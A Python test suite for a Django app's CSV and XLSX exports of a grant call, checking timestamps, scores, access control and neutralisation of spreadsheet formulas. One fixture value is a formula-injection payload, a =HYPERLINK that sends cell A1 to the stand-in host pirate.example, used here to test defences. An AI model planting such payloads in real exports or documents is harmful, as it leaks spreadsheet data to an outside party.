"""Exports of a call (CSV and XLSX): content, Paris times, scores from the consolidation,
formula neutralisation of what applicants and reviewers typed, access and unknown exports."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from frenchimpact.accounts.roles import Role
from frenchimpact.calls import consolidation, exports
from frenchimpact.calls.enums import ApplicationStatus, AssignmentStatus
from frenchimpact.calls.models import Assignment, CallApplication, Criterion, ReviewRound, Score

from ..accounts.factories import user_with_role
from ..accounts.utils import page_text
from ..organisations.factories import PublishedOrganisationFactory, PublishedProjectFactory
from .factories import make_application

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez ici")'


@pytest.fixture
def world(call):
    """Two applications (one named like a formula), two reviewers (one named "@x"), scores
    in round 1 and a recusal whose reason starts with a tab."""
    nasty = make_application(
        call, organisation=PublishedOrganisationFactory.create(name=FORMULA, siren=None)
    )
    nasty.projects.set(
        [PublishedProjectFactory.create(organisation=nasty.organisation, title="-2 projets")]
    )
    CallApplication.objects.filter(pk=nasty.pk).update(
        status=ApplicationStatus.LAUREATE,
        admissibility_reason="+1 pour la cohérence",
        decided_at=timezone.now(),
    )
    plain = make_application(call)
    CallApplication.objects.filter(pk=plain.pk).update(
        status=ApplicationStatus.WAITING_LIST, waiting_list_rank=1, decided_at=timezone.now()
    )
    at = user_with_role(Role.REVIEWER, first_name="@x", last_name="")
    other = user_with_role(Role.REVIEWER, first_name="Inès", last_name="Garcia")
    review_round = ReviewRound.objects.get(call=call, number=1)
    criteria = list(Criterion.objects.filter(grid=review_round.grid).order_by("order"))
    values = {(nasty, at): [5, 4, 8], (nasty, other): [3, 3, 5], (plain, at): [2, 1, 4]}
    for (application, reviewer), scores in values.items():
        assignment = Assignment.objects.create(
            round=review_round,
            application=application,
            reviewer=reviewer,
            status=AssignmentStatus.SUBMITTED,
            submitted_at=timezone.now(),
        )
        for criterion, value in zip(criteria, scores, strict=True):
            Score.objects.create(assignment=assignment, criterion=criterion, value=Decimal(value))
    Assignment.objects.create(
        round=review_round,
        application=plain,
        reviewer=other,
        status=AssignmentStatus.RECUSED,
        recusal_reason="\tJe connais la directrice.",
        declared_at=timezone.now(),
    )
    return {"call": call, "nasty": nasty, "plain": plain, "round": review_round, "at": at}


def _csv(client, call, dataset):
    response = client.get(reverse("calls_staff:export", args=[call.slug, dataset, "csv"]))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="{call.slug}-{dataset}-' in response["Content-Disposition"]
    raw = b"".join(response.streaming_content).decode("utf-8")
    assert raw.startswith("\ufeff")  # the BOM, for spreadsheets
    return list(csv.reader(io.StringIO(raw[1:]), delimiter=";"))


def _xlsx(client, call, dataset):
    response = client.get(reverse("calls_staff:export", args=[call.slug, dataset, "xlsx"]))
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return sheet


def _by_header(rows):
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def test_applications_csv(client, world, staff):
    client.force_login(staff)
    rows = _by_header(_csv(client, world["call"], "candidatures"))
    nasty = next(r for r in rows if r["Numéro de dossier"] == world["nasty"].reference)
    # What applicants typed cannot run as a formula.
    assert nasty["Structure candidate"] == "'" + FORMULA
    assert nasty["Projets"] == "'-2 projets"
    assert nasty["Motif de recevabilité"] == "'+1 pour la cohérence"
    assert nasty["Statut"] == "Lauréate" and nasty["Code du statut"] == "laureate"
    assert nasty["Code région"] == "11" and nasty["Éligible selon les règles"] == "oui"
    # Submission time in Paris, with its offset.
    submitted = timezone.localtime(world["nasty"].submitted_at)
    assert nasty["Déposée le (heure de Paris)"] == submitted.isoformat(sep=" ", timespec="seconds")
    assert nasty["Déposée le (heure de Paris)"][-6:] in ("+01:00", "+02:00")


def test_applications_xlsx_has_no_formula(client, world, staff):
    client.force_login(staff)
    sheet = _xlsx(client, world["call"], "candidatures")
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    nasty = next(r for r in rows[1:] if r[0].value == world["nasty"].reference)
    cell = nasty[header.index("Structure candidate")]
    assert cell.value == "'" + FORMULA
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert nasty[header.index("Projets")].value == "'-2 projets"
    assert nasty[header.index("Motif de recevabilité")].value == "'+1 pour la cohérence"
    assert all(c.data_type != "f" for row in rows for c in row)
    # Times are the Paris wall clock (naive in the workbook).
    submitted = timezone.localtime(world["nasty"].submitted_at).replace(tzinfo=None, microsecond=0)
    assert nasty[header.index("Déposée le (heure de Paris)")].value == submitted


def test_scores_match_the_consolidation(client, world, staff):
    client.force_login(staff)
    rows = _by_header(_csv(client, world["call"], "notes"))
    results = {r.application_id: r for r in consolidation.consolidate_round(world["round"].pk)}
    assert len(rows) == 3  # the reviews handed in; the recusal is not a review
    for row in rows:
        application = CallApplication.objects.get(reference=row["Numéro de dossier"])
        result = results[application.pk]
        assert result.raw is not None
        assert row["Score brut du dossier (sur 100)"] == f"{round(result.raw, 2)}".replace(".", ",")
        assert row["Rang"] == str(result.rank)
        assert row["Évaluations"] == str(result.reviews)
    first = rows[0]
    assert first["Numéro de dossier"] == world["nasty"].reference  # ranked first
    assert first["Impact social (/5)"] in {"5,00", "3,00"}
    # A reviewer named "@x" is neutralised; a negative z-score is a number, left as it is.
    at_rows = [r for r in rows if r["Évaluateur"] == "'@x"]
    assert len(at_rows) == 2
    negative = [r for r in rows if r["Score normalisé de l’évaluateur (z)"].startswith("-")]
    assert negative and all(
        not r["Score normalisé de l’évaluateur (z)"].startswith("'") for r in negative
    )


def test_scores_xlsx_keep_numbers_as_numbers(client, world, staff):
    client.force_login(staff)
    sheet = _xlsx(client, world["call"], "notes")
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    values = [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    row = dict(zip(header, values, strict=True))
    assert isinstance(row["Score brut du dossier (sur 100)"], float)
    assert row["Rang"] == 1


def test_recusals_and_eligibility(client, world, staff):
    client.force_login(staff)
    recusals = _csv(client, world["call"], "deports")
    assert len(recusals) == 2
    assert "'\tJe connais la directrice." in recusals[1]
    eligibility = _by_header(_csv(client, world["call"], "eligibilite"))
    assert {row["Code de la règle"] for row in eligibility} == {"anciennete_min", "budget_min"}
    assert len(eligibility) == 4  # two rules × two applications


def test_decisions_say_whether_they_are_published(client, world, staff):
    client.force_login(staff)
    rows = _by_header(_csv(client, world["call"], "decisions"))
    assert [r["Code de la décision"] for r in rows] == ["laureate", "liste_attente"]
    assert rows[1]["Rang sur liste d’attente"] == "1"
    assert {r["Publiée"] for r in rows} == {"non"}
    world["call"].results_published_at = timezone.now()
    world["call"].save(update_fields=["results_published_at"])
    rows = _by_header(_csv(client, world["call"], "decisions"))
    assert {r["Publiée"] for r in rows} == {"oui"}


def test_every_dataset_in_both_formats(client, world, staff):
    client.force_login(staff)
    for dataset in exports.DATASETS:
        assert len(_csv(client, world["call"], dataset)) >= 2, dataset
        assert _xlsx(client, world["call"], dataset).max_row >= 2, dataset


@pytest.mark.parametrize(("dataset", "fmt"), [("pirate", "csv"), ("notes", "pdf")])
def test_unknown_dataset_or_format_is_a_french_404(client, call, staff, dataset, fmt):
    client.force_login(staff)
    response = client.get(reverse("calls_staff:export", args=[call.slug, dataset, fmt]))
    assert response.status_code == 404
    text = page_text(response)
    assert f"Il n’existe pas d’export « {dataset} » au format « {fmt} »." in text
    assert "candidatures, eligibilite, notes, deports, decisions" in text


def test_exports_are_for_programme_staff_only(client, world, stranger):
    url = reverse("calls_staff:export", args=[world["call"].slug, "notes", "csv"])
    assert client.get(url).status_code == 302
    client.force_login(user_with_role(Role.REVIEWER))
    assert client.get(url).status_code == 403
    client.force_login(stranger)
    assert client.get(url).status_code == 403


def test_export_queries_do_not_grow_with_the_applications(
    client, call, staff, django_assert_max_num_queries
):
    for _ in range(20):
        make_application(call)
    client.force_login(staff)
    url = reverse("calls_staff:export", args=[call.slug, "candidatures", "csv"])
    client.get(url)
    # The form's questions (2) and the latest submissions' answers and files (2) included.
    with django_assert_max_num_queries(10):
        b"".join(client.get(url).streaming_content)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Association", "Association"),
        ("", ""),
    ],
)
def test_csv_cells_are_neutralised(value, expected):
    assert exports.csv_cell(value) == expected
    assert exports.xlsx_cell(value) == expected


def test_numbers_and_booleans_in_cells():
    assert exports.csv_cell(-0.5) == "-0,5"
    assert exports.csv_cell(Decimal("3.50")) == "3,50"
    assert exports.csv_cell(None) == ""
    assert exports.csv_cell(True) == "oui"
    assert exports.xlsx_cell(-0.5) == -0.5
    assert exports.xlsx_cell(False) == "non"
